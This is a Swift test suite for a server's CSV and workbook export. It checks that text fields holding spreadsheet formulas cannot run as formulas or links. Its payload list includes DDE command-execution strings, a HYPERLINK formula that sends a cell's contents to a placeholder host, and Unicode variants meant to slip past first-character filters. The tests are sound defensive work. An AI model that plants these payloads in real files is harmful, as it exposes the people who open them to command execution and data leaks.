import SyncEngine
import Testing

@testable import Server

/// What somebody typed into a name or a remark is not computed by the spreadsheet of who opens the export.
@Suite struct FormulaInjectionTests {
    /// Payloads as attackers write them, and ways around a filter of the first character.
    static let hostile = [
        "=1+1", "+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"点\")",
        "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\r\n=1+1", "\n=1+1",
        " =1+1", "\u{3000}=1+1", "\u{A0}=1+1", "\u{FEFF}=1+1", "\u{200B}=1+1", "\u{202E}=1+1", "\u{0}=1+1",
        "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "=\u{301}1+1", "-2+3+cmd|' /C calc'!A0", "\u{1}=1",
    ]

    static let harmless = ["张三", "370404198001010014", "a=b", "一组 - 3号", "100%", "(备注)", "'引号", "1.5", ""]

    @Test(arguments: hostile) func aTextOfCSVThatReadsAsAFormulaBeginsWithAnApostrophe(text: String) throws {
        let bytes = CSVWriter([.init("c", "列", "C")]).rows([[.text(text), .text("后")]])
        let line = String(decoding: bytes, as: UTF8.self)
        #expect(line.hasPrefix("'") || line.hasPrefix("\"'"), "\(line.debugDescription)")
        #expect(line.hasSuffix(",后\r\n"))
        #expect(!bytes.contains(0))
    }

    @Test(arguments: harmless) func anOrdinaryTextOfCSVStaysAsItIs(text: String) throws {
        let line = String(decoding: CSVWriter([.init("c", "列", "C")]).rows([[.text(text)]]), as: UTF8.self)
        #expect(line == text + "\r\n")
    }

    @Test func aNegativeAmountIsANumberAndNoFormula() throws {
        let line = String(
            decoding: CSVWriter([.init("c", "列", "C")]).rows([[.fen(-320_05), .number(-3), .percent(tenths: -5)]]),
            as: UTF8.self)
        #expect(line == "-320.05,-3,-0.5%\r\n")
    }

    /// A cell of one line cannot end its row or begin another.
    @Test func nothingBreaksOutOfItsCell() throws {
        let line = String(
            decoding: CSVWriter([.init("c", "列", "C")]).rows([[.text("a\",\"=1"), .text("b\r\n=2"), .text("c;=3")]]),
            as: UTF8.self)
        #expect(line == "\"a\"\",\"\"=1\",\"b\r\n=2\",\"c;=3\"\r\n")
    }

    @Test func noTextOfAWorkbookIsAFormulaOrALink() throws {
        let township = try TestTownship()
        let texts = Self.hostile + ["http://example.org", "mailto:a@b", "internal:Sheet1!A1", "{=1+1}"]
        let book = try Workbook(try township.file(sample(texts.map { [.text($0)] }), .xlsx))
        #expect(book.sheets[0].count == texts.count + 1)
        for cell in book.sheets[0].values { #expect(cell.type == "inlineStr") }
        #expect(!book.text("xl/worksheets/sheet1.xml").contains("<f>"))
        #expect(!book.text("xl/worksheets/sheet1.xml").contains("hyperlink"))
        #expect(book.parts.keys.allSatisfy { !$0.contains("externalLink") })
    }
}
